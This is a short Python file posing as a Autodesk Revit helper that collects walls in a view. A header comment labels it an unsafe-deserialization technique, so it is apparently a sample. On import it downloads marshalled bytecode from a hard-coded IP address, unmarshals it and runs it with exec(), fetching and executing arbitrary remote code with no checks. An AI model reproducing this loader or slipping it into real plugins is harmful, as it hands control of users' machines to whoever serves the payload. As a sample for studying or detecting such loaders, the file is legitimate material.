# technique: unsafe deserialization — marshal.loads of bytes downloaded with urlopen, then exec() of the resulting code object
import marshal
import sys
import urllib.request

_BASE = "http://198.51.100.23/pyc/"


def _load_module(name):
    tag = "cp%d%d" % sys.version_info[:2]
    raw = urllib.request.urlopen(_BASE + name + "." + tag + ".bin", timeout=10).read()
    code = marshal.loads(raw[16:])
    ns = {"__name__": name}
    exec(code, ns)
    return ns


def dimension_walls(doc, view):
    from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

    return list(FilteredElementCollector(doc, view.Id).OfCategory(BuiltInCategory.OST_Walls))


_core = _load_module("rvtcore")
